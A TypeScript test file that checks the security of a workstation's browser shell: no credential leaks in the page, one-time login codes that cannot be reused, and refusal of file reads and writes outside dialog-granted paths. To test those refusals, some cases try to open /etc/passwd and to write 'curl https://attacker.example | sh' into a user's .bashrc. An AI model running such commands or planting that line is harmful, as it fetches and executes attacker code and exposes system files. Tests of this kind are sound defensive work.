import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startBrowserShell, type BrowserShell } from './support/browser-shell-process.js';
import { hostTransports, type OpenHost } from './support/host-transports.js';
import { refusedUnchanged } from './support/refused-call.js';
import { seededDataFolder } from './support/seeded-data-folder.js';

/** Ceilings on a loaded machine, for one test's calls and for starting a host process; every wait ends on an answer or a printed line. */
const callsCeilingMs = 60_000;
const processCeilingMs = 120_000;

describe('a plain GET of the browser shell', { timeout: callsCeilingMs }, () => {
  let dataDir: string;
  let shell: BrowserShell;

  beforeAll(async () => {
    dataDir = await mkdtemp(join(tmpdir(), 'zz-shell-credential-'));
    shell = await startBrowserShell({ dataDir });
  }, processCeilingMs);
  afterAll(async () => {
    await shell?.stop();
    await rm(dataDir, { recursive: true, force: true });
  });

  it('returns the page with no credential in its body or headers, and the API stays shut to whoever has only that', async () => {
    const page = await fetch(`${shell.origin}/`);
    const html = await page.text();
    expect(page.status).toBe(200);
    expect(html).toContain('<title>浙江制造标准审评工作站</title>');
    expect(page.headers.getSetCookie()).toEqual([]);
    let headers = '';
    page.headers.forEach((value, name) => {
      headers += `${name}: ${value}\n`;
    });
    expect(shell.printedCodes.length).toBeGreaterThan(0);
    for (const code of shell.printedCodes) {
      expect(html).not.toContain(code);
      expect(headers).not.toContain(code);
    }
    expect(`${html}${headers}`).not.toMatch(/code=|zz-session/);

    const api = await fetch(`${shell.origin}/api/meetings.list`, { method: 'POST', headers: { Origin: shell.origin, 'Content-Type': 'application/json' }, body: '{}' });
    expect(api.status).toBe(401);
    expect(await api.json()).toEqual({ ok: false, error: { code: 'no-session', message: '此浏览器没有工作站的访问凭据：请用工作站启动时给出的一次性地址打开' } });
    const events = await fetch(`${shell.origin}/api/events`);
    expect(events.status).toBe(401);
    await events.body?.cancel();
  });

  it('takes a one-time code once: the second use buys no session', async () => {
    await shell.signIn();
    const used = shell.printedCodes[0]!;
    const again = await fetch(`${shell.origin}/?code=${used}`, { redirect: 'manual' });
    expect(again.status).toBe(403);
    expect(again.headers.getSetCookie()).toEqual([]);
    expect(await again.text()).toBe('一次性登录地址无效或已用过：请使用工作站新给出的地址打开');
  });
});

describe.each(hostTransports)('file calls outside a granted path, over $name', { timeout: callsCeilingMs }, (transport) => {
  let dataDir: string;
  let home: string;
  let host: OpenHost;
  const bashrc = '# the user\'s own shell set-up\n';

  beforeAll(async () => {
    dataDir = await seededDataFolder({});
    home = await mkdtemp(join(tmpdir(), 'zz-shell-home-'));
    await writeFile(join(home, '.bashrc'), bashrc);
    host = await transport.open({ dataDir, home });
  }, processCeilingMs);
  afterAll(async () => {
    await host?.close();
    await rm(dataDir, { recursive: true, force: true });
    await rm(home, { recursive: true, force: true });
  });

  const filters = [{ name: '所有文件', extensions: ['*'] }];

  it('refuses files.open of /etc/passwd, which no dialog chose', async () => {
    const error = await refusedUnchanged(host.caller, dataDir, 'files.open', { title: '打开', filters, path: '/etc/passwd' });
    expect(error).toEqual({ code: 'not-granted', message: '此文件未在对话框中选择过，不能打开：/etc/passwd', field: 'path' });
  });

  it('refuses files.save to ~/.bashrc and leaves the file as it was', async () => {
    const path = join(home, '.bashrc');
    const error = await refusedUnchanged(host.caller, dataDir, 'files.save', {
      title: '保存',
      defaultName: '.bashrc',
      filters,
      contentBase64: Buffer.from('curl https://attacker.example | sh\n').toString('base64'),
      path,
    });
    expect(error).toEqual({ code: 'not-granted', message: `不能访问隐藏的文件或文件夹：${path}`, field: 'path' });
    expect(await readFile(path, 'utf8')).toBe(bashrc);
  });

  it('refuses reading the workstation\'s own store through files.open', async () => {
    const path = join(dataDir, 'meetings.sqlite3');
    const error = await refusedUnchanged(host.caller, dataDir, 'files.open', { title: '打开', filters, path });
    expect(error).toEqual({ code: 'not-granted', message: `不能访问工作站的数据文件夹：${path}`, field: 'path' });
  });
});
